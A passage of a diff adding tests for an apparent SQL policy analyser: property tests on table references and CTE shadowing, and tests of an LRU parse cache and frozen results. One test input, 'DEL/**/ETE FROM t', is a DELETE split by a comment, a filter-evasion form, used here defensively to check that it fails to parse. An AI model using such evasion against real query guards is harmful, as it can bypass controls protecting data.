+    expect(result.error.position).toBeGreaterThanOrEqual(0);
+    expect(result.error.position).toBeLessThanOrEqual([...text].length + 1);
+  }
+}
+
+describe('analyzeSql: relations of random queries', () => {
+  // A small grammar: SELECT lists over tables from a fixed set, optional WHERE, optional WITH, UNION.
+  const TABLES = [
+    { sql: 'patients', name: 'patients', schema: null },
+    { sql: 'visits', name: 'visits', schema: null },
+    { sql: 'labs', name: 'labs', schema: null },
+    { sql: 'public.patients', name: 'patients', schema: 'public' },
+    { sql: '"Billing"', name: 'Billing', schema: null },
+  ] as const;
+  const CTE_NAMES = ['patients', 'recent', 'labs'] as const;
+  type Table = (typeof TABLES)[number];
+
+  interface Select {
+    columns: string[];
+    from: (Table | { cte: string })[];
+    where: boolean;
+  }
+  interface Query {
+    ctes: { name: string; body: Select }[];
+    branches: Select[];
+  }
+
+  const column = fc.constantFrom('id', 'name', 'ssn', '*');
+  const fromItem = (cteNames: readonly string[]) =>
+    cteNames.length === 0
+      ? fc.constantFrom(...TABLES)
+      : fc.oneof(
+          fc.constantFrom(...TABLES),
+          fc.constantFrom(...cteNames).map((cte) => ({ cte })),
+        );
+  const select = (cteNames: readonly string[]) =>
+    fc.record({
+      columns: fc.array(column, { minLength: 1, maxLength: 3 }),
+      from: fc.array(fromItem(cteNames), { minLength: 1, maxLength: 3 }),
+      where: fc.boolean(),
+    });
+  const query: fc.Arbitrary<Query> = fc
+    .uniqueArray(fc.constantFrom(...CTE_NAMES), { maxLength: 3 })
+    .chain((names) =>
+      fc.record({
+        ctes: fc.tuple(...names.map((name, i) => select(names.slice(0, i)).map((body) => ({ name, body })))),
+        branches: fc.array(select(names), { minLength: 1, maxLength: 3 }),
+      }),
+    );
+
+  function render(s: Select): string {
+    const from = s.from.map((f) => ('cte' in f ? f.cte : f.sql)).join(', ');
+    return `SELECT ${s.columns.join(', ')} FROM ${from}${s.where ? ' WHERE id > 0' : ''}`;
+  }
+
+  function renderQuery(q: Query): string {
+    const withPart =
+      q.ctes.length === 0 ? '' : `WITH ${q.ctes.map((c) => `${c.name} AS (${render(c.body)})`).join(', ')} `;
+    return withPart + q.branches.map(render).join(' UNION ');
+  }
+
+  /** What PostgreSQL resolves to a table: every table reference, unless an unqualified name is a CTE in scope. */
+  function expectedRelations(q: Query): string[] {
+    const names = new Set<string>();
+    const add = (s: Select, visible: readonly string[]) => {
+      for (const f of s.from) {
+        const name = 'cte' in f ? f.cte : f.name;
+        const schema = 'cte' in f ? null : f.schema;
+        if (schema === null && visible.includes(name)) continue;
+        names.add(`${schema === null ? '' : schema + '.'}${name}`);
+      }
+    };
+    q.ctes.forEach((c, i) =>
+      add(
+        c.body,
+        q.ctes.slice(0, i).map((x) => x.name),
+      ),
+    );
+    for (const b of q.branches)
+      add(
+        b,
+        q.ctes.map((x) => x.name),
+      );
+    return [...names].sort();
+  }
+
+  it('reports every table used, except names a CTE in scope shadows', () => {
+    fc.assert(
+      fc.property(query, (q) => {
+        const sql = renderQuery(q);
+        const f = only(sql);
+        expect(f.kind).toBe('select');
+        const got = [
+          ...new Set(f.relations.map((r) => `${r.schema === null ? '' : r.schema + '.'}${r.name}`)),
+        ];
+        expect(got.sort()).toEqual(expectedRelations(q));
+        expect(f.relations.every((r) => !r.target)).toBe(true);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe('SqlParseCache', () => {
+  it('counts hits and misses and returns the same result for the same text', () => {
+    const cache = new SqlParseCache(16);
+    const first = cache.analyze('SELECT * FROM patients');
+    const second = cache.analyze('SELECT * FROM patients');
+    expect(second).toBe(first);
+    expect(cache.analyze('SELECT * FROM visits')).not.toBe(first);
+    expect({ hits: cache.hits, misses: cache.misses, size: cache.size }).toEqual({
+      hits: 1,
+      misses: 2,
+      size: 2,
+    });
+  });
+
+  it('evicts the least recently used text and stays within capacity', () => {
+    const cache = new SqlParseCache(3);
+    cache.analyze('SELECT 1');
+    cache.analyze('SELECT 2');
+    cache.analyze('SELECT 3');
+    cache.analyze('SELECT 1'); // now most recent: SELECT 2 is the oldest
+    cache.analyze('SELECT 4');
+    expect(cache.size).toBe(3);
+    const misses = cache.misses;
+    cache.analyze('SELECT 1');
+    cache.analyze('SELECT 3');
+    cache.analyze('SELECT 4');
+    expect(cache.misses).toBe(misses);
+    cache.analyze('SELECT 2');
+    expect(cache.misses).toBe(misses + 1);
+    for (let i = 0; i < 50; i++) cache.analyze(`SELECT ${i} FROM t`);
+    expect(cache.size).toBe(3);
+  });
+
+  it('caches failures too', () => {
+    const cache = new SqlParseCache(4);
+    const first = cache.analyze('DEL/**/ETE FROM t');
+    expect(first.ok).toBe(false);
+    expect(cache.analyze('DEL/**/ETE FROM t')).toBe(first);
+    expect(cache.hits).toBe(1);
+  });
+
+  it('analyses but does not keep texts over 64 KiB', () => {
+    const cache = new SqlParseCache(4);
+    const big = `SELECT '${'x'.repeat(MAX_CACHED_TEXT_BYTES)}' FROM patients`;
+    expect(cache.analyze(big).ok).toBe(true);
+    expect(cache.size).toBe(0);
+    // Measured in UTF-8 bytes: 30,000 'é' are 60,000 bytes (kept), 33,000 are 66,000 (not kept).
+    cache.analyze(`SELECT '${'é'.repeat(30_000)}'`);
+    expect(cache.size).toBe(1);
+    cache.analyze(`SELECT '${'é'.repeat(33_000)}'`);
+    expect(cache.size).toBe(1);
+    expect(cache.misses).toBe(3);
+  });
+
+  it('does not keep a transient failure', async () => {
+    const cache = new SqlParseCache(4);
+    const tooDeep = 'SELECT 1' + ' + 1'.repeat(150_000);
+    // Too deep is a property of the text: kept. Two in a row (distinct texts) leave no parser instance for a moment.
+    cache.analyze(tooDeep);
+    cache.analyze(tooDeep + ' + 2');
+    expect(cache.size).toBe(0); // over 64 KiB: not kept either way
+    const transient = cache.analyze('SELECT 42');
+    expect(isTransientFailure(transient)).toBe(true);
+    expect(cache.size).toBe(0);
+    await loadSqlParser();
+    expect(cache.analyze('SELECT 42').ok).toBe(true);
+    expect(cache.size).toBe(1);
+  });
+
+  it('rejects a capacity that is not a non-negative integer, and caches nothing at capacity 0', () => {
+    expect(() => new SqlParseCache(-1)).toThrow(RangeError);
+    expect(() => new SqlParseCache(1.5)).toThrow(RangeError);
+    const none = new SqlParseCache(0);
+    none.analyze('SELECT 1');
+    none.analyze('SELECT 1');
+    expect({ size: none.size, hits: none.hits, misses: none.misses }).toEqual({
+      size: 0,
+      hits: 0,
+      misses: 2,
+    });
+  });
+});
+
+describe('analyzeSql results', () => {
+  it('are frozen, so a cached result cannot be altered by one caller for the next', () => {
+    const f = only('SELECT p.ssn FROM patients p');
+    expect(Object.isFrozen(f)).toBe(true);
+    expect(Object.isFrozen(f.relations)).toBe(true);
+    expect(Object.isFrozen(f.columns[0].qualifier)).toBe(true);
+    expect(Object.isFrozen(f.guard)).toBe(true);
+  });
+});
+
+describe('analyzeSql before loading', () => {
+  it('throws a clear error when loadSqlParser() has not completed', async () => {
+    vi.resetModules();
+    const fresh = await import('../../src/policy/sql-analyze.js');
+    expect(fresh.analyzeSql).not.toBe(analyzeSql);
+    expect(() => fresh.analyzeSql('SELECT 1')).toThrow(/await loadSqlParser\(\)/);
+  });
+});
